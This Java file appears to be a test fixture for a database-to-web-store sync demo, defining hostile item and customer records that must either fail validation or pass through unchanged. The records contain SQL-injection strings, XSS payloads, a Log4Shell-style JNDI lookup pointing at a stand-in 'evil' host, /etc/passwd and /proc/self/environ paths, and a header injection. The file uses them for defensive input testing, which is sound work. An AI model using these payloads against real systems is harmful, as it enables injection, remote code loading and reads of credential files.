package io.syncbench.demo;

import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * The bad-input corpus: records that a careless or hostile system hands over. Each either fails on its
 * own with an error naming {@code field} ({@code fails} true), or is ordinary data, however odd, that
 * must arrive exactly as it is (SQL and markup fragments, quotes, long Unicode, format strings).
 *
 * @param label  what makes the record hostile, for the test's messages
 * @param values the record's column values (company side) or JSON fields (web side)
 * @param field  the field the error must name; for an intact record, the field compared on arrival
 * @param fails  whether the record must fail
 */
record HostileRecords(String label, Map<String, Object> values, String field, boolean fails) {

	private static final String CONTROLS = controls();

	/** Every C0 control character but tab, line feed and carriage return, and DEL. */
	private static String controls() {
		StringBuilder controls = new StringBuilder();
		for (char c = 0; c < 0x20; c++) {
			if (c != '\t' && c != '\n' && c != '\r') {
				controls.append(c);
			}
		}
		return controls.append('\u007f').toString();
	}

	static HostileRecords failing(String label, String field, Map<String, Object> values) {
		return new HostileRecords(label, values, field, true);
	}

	static HostileRecords intact(String label, String field, Map<String, Object> values) {
		return new HostileRecords(label, values, field, false);
	}

	/** Items of the company database (table ITEM): SKU, NAME, DESCRIPTION, CATEGORY, PRICE, STOCK, IMAGE. */
	static List<HostileRecords> items() {
		List<HostileRecords> items = new ArrayList<>();
		int n = 0;
		for (char control : CONTROLS.toCharArray()) { // 30 records: each control character in a name
			items.add(failing(String.format("U+%04X in the name", (int) control), "name",
					item(++n, "Chair " + control + " deluxe", "1.00")));
		}
		items.add(failing("NUL in the description", "description", with(item(++n, "Lamp", "2.00"), "DESCRIPTION", "dim\u0000")));
		items.add(failing("a control character in the category", "category",
				with(item(++n, "Lamp", "2.00"), "CATEGORY", "Light\u0008ing")));
		items.add(failing("a control character in the SKU", "sku", with(item(++n, "Lamp", "2.00"), "SKU", "HOSTILE-\u0001")));
		items.add(failing("a blank name", "name", item(++n, "   ", "3.00")));
		items.add(failing("an empty name", "name", item(++n, "", "3.00")));
		items.add(failing("an image that is not there", "image",
				with(item(++n, "Vase", "4.00"), "IMAGE", "/nonexistent/images/vase.png")));
		items.add(failing("an image path that climbs out", "image",
				with(item(++n, "Vase", "4.00"), "IMAGE", "../../../../nonexistent/../vase.png")));
		items.add(failing("an image naming /etc/passwd", "image", with(item(++n, "Vase", "4.00"), "IMAGE", "/etc/passwd")));
		items.add(failing("an image naming the process's environment", "image",
				with(item(++n, "Vase", "4.00"), "IMAGE", "/proc/self/environ")));
		items.add(failing("a lone high surrogate in the name", "name", item(++n, "Chair \uD800 deluxe", "1.00")));
		items.add(failing("a lone low surrogate in the description", "description",
				with(item(++n, "Lamp", "2.00"), "DESCRIPTION", "dim \uDC00")));
		items.add(failing("a name of no-break spaces", "name", item(++n, "\u00A0\u00A0\u2007\u202F", "3.00")));
		items.add(failing("a name of zero-width characters", "name", item(++n, "\u200B\u200C\u200D\u2060\uFEFF", "3.00")));
		items.add(intact("an SQL fragment in the name", "name", item(++n, "'; DROP TABLE ITEM; --", "5.00")));
		items.add(intact("another SQL fragment", "name", item(++n, "Robert'); DELETE FROM CUSTOMER; --", "5.00")));
		items.add(intact("a script in the description", "description",
				with(item(++n, "Desk", "6.00"), "DESCRIPTION", "<script>alert('x')</script>")));
		items.add(intact("markup and quotes", "name", item(++n, "<b>Bold</b> & \"quoted\" 'single'", "6.00")));
		items.add(intact("malformed JSON as text", "name", item(++n, "{\"json\": [1, 2,}", "7.00")));
		items.add(intact("truncated JSON as text", "description", with(item(++n, "Stool", "7.00"), "DESCRIPTION", "{\"truncated\": \"")));
		items.add(intact("sixty emoji", "name", item(++n, "\uD83D\uDE00".repeat(60), "8.00")));
		items.add(intact("right-to-left text with an override", "name", item(++n, "\u202Eכיסא עץ \u0645\u0642\u0639\u062F", "8.00")));
		items.add(intact("combining marks and a zero-width joiner", "name", item(++n, "Ca\u0301fe\u0301 \uD83D\uDC69\u200D\uD83D\uDCBB", "8.00")));
		items.add(intact("a thousand umlauts", "description", with(item(++n, "Rug", "9.00"), "DESCRIPTION", "ä".repeat(1000))));
		items.add(intact("tabs and line breaks", "description", with(item(++n, "Rug", "9.00"), "DESCRIPTION", "one\ttwo\r\nthree\n")));
		items.add(intact("a format string and a JNDI lookup", "name", item(++n, "%s %n %x ${jndi:ldap://evil/a}", "9.00")));
		items.add(intact("a path as a name", "name", item(++n, "../../etc/passwd", "9.00")));
		items.add(intact("the largest price the column holds", "price", item(++n, "Throne", "9999999999.99")));
		items.add(intact("a negative price", "price", item(++n, "Refund", "-0.01")));
		items.add(intact("the smallest stock", "stock", with(item(++n, "Debt", "1.00"), "STOCK", Integer.MIN_VALUE)));
		items.add(intact("the largest stock", "stock", with(item(++n, "Hoard", "1.00"), "STOCK", Integer.MAX_VALUE)));
		items.add(intact("quotes and spaces in the SKU", "sku", with(item(++n, "Mat", "1.00"), "SKU", "SKU 'quoted' \"x\" ;")));
		items.add(intact("a header injection in the name", "name", item(++n, "Line1\r\nX-Injected: evil", "1.00")));
		return items;
	}

	private static Map<String, Object> item(int n, String name, String price) {
		return Map.of("SKU", "HOSTILE-" + n, "NAME", name, "PRICE", new BigDecimal(price));
	}

	private static Map<String, Object> with(Map<String, Object> values, String column, Object value) {
		Map<String, Object> changed = new java.util.LinkedHashMap<>(values);
		changed.put(column, value);
		return changed;
	}

	/** Customers of the company database (table CUSTOMER): EMAIL, FIRST_NAME, LAST_NAME, PHONE, COMPANY. */
	static List<HostileRecords> companyCustomers() {
		List<HostileRecords> customers = new ArrayList<>();
		int n = 0;
		customers.add(failing("not an email", "email", customer("not-an-email", "Ann")));
		customers.add(failing("an empty email", "email", customer("", "Ann")));
		customers.add(failing("a blank email", "email", customer("\t", "Ann"))); // Derby compares "   " equal to ""
		customers.add(failing("an email without a domain", "email", customer("ann@localhost", "Ann")));
		customers.add(failing("NUL in the email", "email", customer("nul\u0000@example.com", "Ann")));
		customers.add(failing("an email over the web store's 100 characters", "email",
				customer("a".repeat(101) + "@example.com", "Ann")));
		for (String field : List.of("FIRST_NAME", "LAST_NAME", "PHONE", "COMPANY")) {
			for (char control : new char[] { '\u0000', '\u0007', '\u001b', '\u007f' }) {
				customers.add(failing(String.format("U+%04X in %s", (int) control, field), field.toLowerCase(java.util.Locale.ROOT),
						with(customer("control-" + ++n + "@example.com", "Ann"), field, "x" + control + "y")));
			}
		}
		customers.add(intact("markup in the email", "email", customer("<script>" + ++n + "@example.com", "Ann")));
		customers.add(intact("an apostrophe in the email", "email", customer("o'brien" + ++n + "@example.com", "Ann")));
		customers.add(intact("an SQL fragment in the email", "email", customer("drop';--" + ++n + "@example.com", "Ann")));
		customers.add(intact("sixty CJK characters", "first_name", customer("cjk" + ++n + "@example.com", "漢".repeat(60))));
		customers.add(intact("markup in the company", "company",
				with(customer("markup" + ++n + "@example.com", "Ann"), "COMPANY", "<img src=x onerror=alert(1)>")));
		customers.add(intact("an SQL condition in the company", "company",
				with(customer("sql" + ++n + "@example.com", "Ann"), "COMPANY", "' OR '1'='1")));
		customers.add(intact("a JNDI lookup in the first name", "first_name",
				customer("jndi" + ++n + "@example.com", "${jndi:ldap://evil/a}")));
		customers.add(intact("reversed text", "last_name",
				with(customer("rtl" + ++n + "@example.com", "Ann"), "LAST_NAME", "\u202Etxet desrever")));
		return customers;
	}

	private static Map<String, Object> customer(String email, String firstName) {
		return Map.of("EMAIL", email, "FIRST_NAME", firstName, "LAST_NAME", "Hostile");
	}

	/**
	 * Customers arriving from the web store, as its API accepts them, hostile to the company database
	 * (CUSTOMER: FIRST_NAME and LAST_NAME up to 60 characters, EMAIL up to 120).
	 */
	static List<HostileRecords> webCustomers() {
		List<HostileRecords> customers = new ArrayList<>();
		int n = 0;
		for (char control : CONTROLS.toCharArray()) { // 30 records
			customers.add(failing(String.format("U+%04X in the first name", (int) control), "first_name",
					webCustomer("web-control-" + ++n + "@example.com", "Ann" + control, "Hostile")));
		}
		for (int extra : new int[] { 1, 10, 1000 }) {
			customers.add(failing("a first name " + extra + " over 60", "first_name",
					webCustomer("long-first-" + ++n + "@example.com", "F".repeat(60 + extra), "Hostile")));
			customers.add(failing("a last name " + extra + " over 60", "last_name",
					webCustomer("long-last-" + ++n + "@example.com", "Ann", "L".repeat(60 + extra))));
		}
		customers.add(failing("an email over the company database's 120 characters", "email",
				webCustomer("e".repeat(110) + ++n + "@example.com", "Ann", "Hostile")));
		customers.add(failing("sixty-one emoji", "last_name",
				webCustomer("emoji-" + ++n + "@example.com", "Ann", "\uD83D\uDE00".repeat(61))));
		customers.add(failing("a blank last name, which the company database requires", "last_name",
				webCustomer("blank-" + ++n + "@example.com", "Ann", "  ")));
		customers.add(intact("an SQL fragment in the last name", "last_name",
				webCustomer("sql-" + ++n + "@example.com", "Ann", "x'); DROP TABLE CUSTOMER; --")));
		customers.add(intact("markup in the first name", "first_name",
				webCustomer("markup-" + ++n + "@example.com", "<svg onload=alert(1)>", "Hostile")));
		customers.add(intact("sixty emoji", "last_name",
				webCustomer("emoji-ok-" + ++n + "@example.com", "Ann", "\uD83D\uDE00".repeat(30))));
		customers.add(intact("quotes and backslashes", "last_name",
				webCustomer("quotes-" + ++n + "@example.com", "Ann", "O'Brien \"the\" \\\\ Great")));
		customers.add(intact("malformed JSON as text", "first_name",
				webCustomer("json-" + ++n + "@example.com", "{\"a\":", "Hostile")));
		customers.add(intact("a format string", "first_name",
				webCustomer("format-" + ++n + "@example.com", "%1$s %n", "Hostile")));
		customers.add(intact("a thousand characters in a field the company database does not have", "first_name",
				with(webCustomer("unmapped-" + ++n + "@example.com", "Ann", "Hostile"), "username", "u".repeat(1000))));
		customers.add(intact("combining marks", "last_name",
				webCustomer("combining-" + ++n + "@example.com", "Ann", "Mu\u0308ller-Lu\u0308denscheidt")));
		return customers;
	}

	private static Map<String, Object> webCustomer(String email, String firstName, String lastName) {
		return Map.of("email", email, "first_name", firstName, "last_name", lastName);
	}
}
